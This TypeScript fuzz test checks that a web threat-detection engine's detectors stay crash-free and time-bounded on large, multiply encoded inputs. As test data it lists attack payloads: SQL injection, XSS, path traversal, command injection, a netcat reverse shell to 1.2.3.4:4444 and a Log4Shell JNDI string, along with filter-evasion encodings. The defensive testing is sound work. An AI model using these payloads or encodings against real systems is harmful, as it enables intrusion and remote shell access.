/**
 * Fuzzing every threat detector for totality and cost, beyond `test/threats/property` (short strings) and
 * `test/threats/redos` (fixed 100 KB runs): generated inputs up to the default scan size limit (`maxBodyInspect`,
 * 64 KB), made of random fragments repeated, of attack payloads wrapped in up to twelve random layers of encoding
 * (percent, `%u`, overlong UTF-8, HTML references with and without `;`, JavaScript escapes, form `+`), and of
 * arbitrary binary and Unicode text (lone surrogates included).
 *
 * Each detector (every rule's regex on the wire and normalised text, the normaliser and decoders, the SQL tokenizer
 * with the fingerprint rules, the query and cookie parsers, the excerpt) must never throw and must finish each input
 * within 50 ms of CPU time; a whole-request scan at paranoia 3 must never report an engine error and finish within
 * 250 ms. CPU time, not wall time, so other processes on a busy machine do not count; a slow measurement is taken
 * again twice and the fastest kept, so a garbage-collection pause is not mistaken for a ReDoS (a real one is slow
 * every time). The slowest time per detector is printed.
 */
import t from 'tap'
import fc from 'fast-check'
import { RULES, type ThreatRule } from '../../src/threats/rules.js'
import { normalizeValue, decodeValue } from '../../src/threats/normalize.js'
import { decodeEntities, decodeJsEscapes, formDecode, percentDecode } from '../../src/threats/decode.js'
import { fingerprint } from '../../src/threats/sqli/tokenizer.js'
import { forEachCookie, forEachQueryParam } from '../../src/threats/parse.js'
import { excerpt } from '../../src/threats/excerpt.js'
import { compileThreatEngine, DEFAULT_THREAT_SETTINGS } from '../../src/threats/engine.js'

const SCAN_LIMIT = DEFAULT_THREAT_SETTINGS.maxBodyInspect
const DETECTOR_BOUND_MS = 50
const SCAN_BOUND_MS = 250

// --- inputs -----------------------------------------------------------------------------------------------------

const PAYLOADS = ["' or '1'='1", "1 union select password from users--", "'; waitfor delay '0:0:5'--", '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '; cat /etc/passwd',
  '$(id)', '`id`', '| nc -e /bin/sh 1.2.3.4 4444', '${jndi:ldap://x/a}', 'sqlmap/1.7', '/*!50000union*/ select', "admin'--"]

const hex = (c: number, w = 2) => c.toString(16).padStart(w, '0')
type Encoder = (s: string) => string
const ENCODERS: Encoder[] = [
  (s) => [...s].map((c) => `%${hex(c.charCodeAt(0) & 0xff)}`).join(''),
  (s) => s.replace(/[^a-z0-9]/gi, (c) => `%${hex(c.charCodeAt(0) & 0xff).toUpperCase()}`),
  (s) => [...s].map((c) => `%u${hex(c.charCodeAt(0), 4)}`).join(''),
  (s) => s.replace(/[./\\<'"]/g, (c) => `%c0%${hex(0x80 | c.charCodeAt(0))}`),
  (s) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join(''),
  (s) => [...s].map((c) => `&#x00${hex(c.charCodeAt(0))}`).join(''),
  (s) => s.replace(/[<>&"']/g, (c) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;', "'": '&apos;' })[c]!),
  (s) => [...s].map((c) => `\\x${hex(c.charCodeAt(0) & 0xff)}`).join(''),
  (s) => [...s].map((c) => `\\u${hex(c.charCodeAt(0), 4)}`).join(''),
  (s) => [...s].map((c) => `\\u{${hex(c.charCodeAt(0))}}`).join(''),
  (s) => s.replace(/ /g, '+'),
  (s) => s.replace(/ /g, '/**/'),
  (s) => [...s].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join(''),
]
/** `payload` under the given layers of encoding. A layer can multiply the length by eight: stop at the scan limit. */
const encode = (payload: string, layers: readonly number[]) =>
  layers.reduce((s, i) => (s.length >= SCAN_LIMIT ? s : ENCODERS[i]!(s).slice(0, SCAN_LIMIT)), payload)
const encoded = fc.tuple(fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 30 })), fc.array(fc.nat(ENCODERS.length - 1), { maxLength: 12 }))
  .map(([p, layers]) => encode(p, layers))

const special = fc.constantFrom(...`'"\`<>()[]{};|&$%#@!=*/\\-+.,:?~^ \n\t\r\u0000\u00a0é😀＜\ud800\udfff`.split(''), '%2', '%c0',
  '%u', '&#', '&#x', '\\u', '\\x', '/*', '*/', '/*!', '--', 'union', 'select', ' or ', 'sleep(', 'onerror=', '<script', 'javascript:',
  '../', '..%2f', '%252e', 'etc/passwd', '${', '$(', '||', 'char(', '0x', '1e1', '@@version')
const fragment = fc.array(fc.oneof(special, fc.string({ maxLength: 4 }), fc.string({ unit: 'binary', maxLength: 4 })), { minLength: 1, maxLength: 12 }).map((a) => a.join('') || '%')
const huge = fc.tuple(fragment, fc.integer({ min: 1024, max: SCAN_LIMIT })).map(([f, n]) => f.repeat(Math.ceil(n / f.length)).slice(0, n))
const input = fc.oneof(
  { weight: 2, arbitrary: huge },
  { weight: 2, arbitrary: encoded },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 500 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
)

// --- timing -----------------------------------------------------------------------------------------------------

const slowest = new Map<string, { ms: number; length: number }>()

/** CPU milliseconds `fn` takes: unlike wall time, not inflated by other processes on a busy machine. */
function cpuMs(fn: () => void): number {
  const start = process.cpuUsage()
  fn()
  const used = process.cpuUsage(start)
  return (used.user + used.system) / 1000
}

/** Runs `fn` (never throwing is part of the property), keeps the slowest time per detector, fails past `bound`. */
function timed(name: string, bound: number, length: number, fn: () => void): void {
  let ms = Infinity
  for (let attempt = 0; attempt < 3 && ms > bound; attempt++) ms = Math.min(ms, cpuMs(fn))
  const seen = slowest.get(name)
  if (!seen || ms > seen.ms) slowest.set(name, { ms, length })
  if (ms > bound) throw new Error(`${name} took ${ms.toFixed(1)} ms on ${length} characters`)
}

const TEXT_RULES = RULES.filter((r): r is Extract<ThreatRule, { kind: 'text' | 'wire' }> => r.kind !== 'fingerprint')
const FP_RULES = RULES.filter((r) => r.kind === 'fingerprint')

function everyDetector(s: string): void {
  const n = s.length
  let text = ''
  timed('normalizeValue', DETECTOR_BOUND_MS, n, () => { text = normalizeValue(s) })
  timed('decoders', DETECTOR_BOUND_MS, n, () => {
    percentDecode(s)
    formDecode(s)
    decodeEntities(s)
    decodeJsEscapes(s)
    decodeValue(s)
  })
  for (const r of TEXT_RULES) {
    timed(r.id, DETECTOR_BOUND_MS, n, () => {
      r.pattern.exec(s)
      r.pattern.exec(text)
    })
  }
  for (const quote of [0, 39, 34] as const) {
    timed(`sql tokenizer + fingerprint rules (quote ${quote})`, DETECTOR_BOUND_MS, n, () => {
      fingerprint(text, quote, (chunk) => {
        for (const r of FP_RULES) r.pattern.test(chunk)
      })
    })
  }
  timed('query and cookie parsers', DETECTOR_BOUND_MS, n, () => {
    forEachQueryParam(s, () => {})
    forEachCookie(s, () => {})
  })
  timed('excerpt', DETECTOR_BOUND_MS, n, () => { excerpt(text, text.length >> 1) })
}

t.test('every detector on large, deeply encoded and binary input: total and bounded', async (t) => {
  let maxLength = 0
  fc.assert(fc.property(input, (s) => {
    maxLength = Math.max(maxLength, s.length)
    everyDetector(s)
  }), { numRuns: 250 })
  const top = [...slowest].sort((a, b) => b[1].ms - a[1].ms).slice(0, 5)
  for (const [name, { ms, length }] of top) t.comment(`slowest: ${name} ${ms.toFixed(2)} ms (${length} characters)`)
  t.ok(top[0]![1].ms <= DETECTOR_BOUND_MS, `every detector within ${DETECTOR_BOUND_MS} ms per input, inputs up to ${maxLength} characters`)
})

t.test('a whole request carrying the input everywhere: no engine error, bounded', async (t) => {
  const engine = compileThreatEngine({ ...DEFAULT_THREAT_SETTINGS, mode: 'block', paranoia: 3 })
  let worst = 0
  fc.assert(fc.property(input, fragment, (s, f) => {
    const half = s.slice(0, SCAN_LIMIT >> 1)
    const requests = [
      { path: `/${half}`, query: `q=${half}&${f}=${f}` },
      { path: '/', query: '', bodyFields: [['comment', s], [f, half]] as Array<[string, string]> },
      { path: '/', query: '', cookieHeader: `a=${half}; ${f}=${f}`, userAgent: half, referer: f },
    ]
    for (const req of requests) {
      let error: unknown
      timed('engine.scan', SCAN_BOUND_MS, s.length, () => { error = engine.scan(req).error })
      if (error !== undefined) throw new Error(`engine error: ${String(error)}`)
    }
    worst = Math.max(worst, slowest.get('engine.scan')!.ms)
  }), { numRuns: 120 })
  t.comment(`slowest whole-request scan: ${worst.toFixed(2)} ms`)
  t.ok(worst <= SCAN_BOUND_MS, `every scan within ${SCAN_BOUND_MS} ms`)
})

t.test('payloads under many encoding layers are still decoded within the round limit', async (t) => {
  const engine = compileThreatEngine({ ...DEFAULT_THREAT_SETTINGS, mode: 'block', paranoia: 1 })
  // Two layers of percent-encoding: well within MAX_DECODE_ROUNDS, must still be seen.
  const twice = ENCODERS[0]!(ENCODERS[0]!('<script>alert(1)</script>'))
  t.ok(engine.scan({ path: '/', query: `q=${twice}` }).blocked, 'double percent-encoded script tag blocked')
  const deep = encode("' or '1'='1", [0, 4, 7, 8, 0, 2, 5, 9, 0, 1, 3, 6])
  let r: ReturnType<typeof engine.scan> | undefined
  const ms = cpuMs(() => { r = engine.scan({ path: '/', query: '', bodyFields: [['q', deep]] }) })
  t.equal(r?.error, undefined, 'twelve layers: no error')
  t.ok(ms < SCAN_BOUND_MS, `twelve layers, ${deep.length} characters: ${ms.toFixed(1)} ms (decoding stops after the round limit)`)
})
